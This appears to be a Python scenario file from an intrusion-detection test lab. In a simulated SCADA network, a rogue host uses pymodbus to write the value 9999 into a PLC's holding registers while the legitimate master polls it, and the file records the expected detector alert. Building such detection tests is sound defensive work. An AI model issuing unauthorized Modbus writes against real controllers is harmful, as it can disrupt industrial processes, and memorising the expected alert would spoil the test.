"""A host that is not the SCADA segment's master writes a PLC's holding
registers (pymodbus client), while the master polls it."""
import os

import benign
import servers

NAME = 'modbus-write'
KIND = 'ics-write'
TOOLS = ['lighttpd', 'dnsmasq', 'mosquitto', 'tcpdump']
FAST = False
EXPECT = [100901]
DETECTORS = ['ics']
MASTER, PLC, ROGUE = '10.30.0.5', '10.30.0.10', '10.30.0.66'
CLIENT = r'''
import sys, time
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient(sys.argv[1], port=502)
c.connect()
if sys.argv[2] == 'poll':
    for i in range(12):
        c.read_holding_registers(0, 10)
        time.sleep(0.5)
else:
    for i in range(3):
        c.write_register(40 + i, 9999)
c.close()
'''


def run(lab, ctx):
    try:
        import pymodbus  # noqa: F401
    except ImportError:
        raise RuntimeError('python3-pymodbus is not installed')
    benign.city(lab, ctx)
    lab.host('plc', [PLC + '/24'])
    lab.host('master', [MASTER + '/24'])
    lab.host('attacker', [ROGUE + '/24'])
    servers.modbus(lab, 'plc', ctx.dir)
    cl = os.path.join(ctx.dir, 'modbus_client.py')
    with open(cl, 'w') as f:
        f.write(CLIENT)
    lab.capture(ctx.pcap)
    benign.start(lab, ctx, rounds=6)
    lab.start('master', [servers.PY, cl, PLC, 'poll'], log=ctx.log('master'))
    lab.run('attacker', [servers.PY, cl, PLC, 'write'], timeout=20, log=ctx.log('rogue'))
    lab.run('master', ['sh', '-c', 'sleep 3'], timeout=6)  # the master's polls go on
    return {'tool': 'pymodbus', 'command': 'write_register(40..42, 9999) from %s' % ROGUE,
            'attacker': [ROGUE], 'victim': [PLC], 'benign': benign.ADDRS + [MASTER],
            'first': 'ip.src==%s && tcp.dstport==502 && tcp.flags.syn==1' % ROGUE}
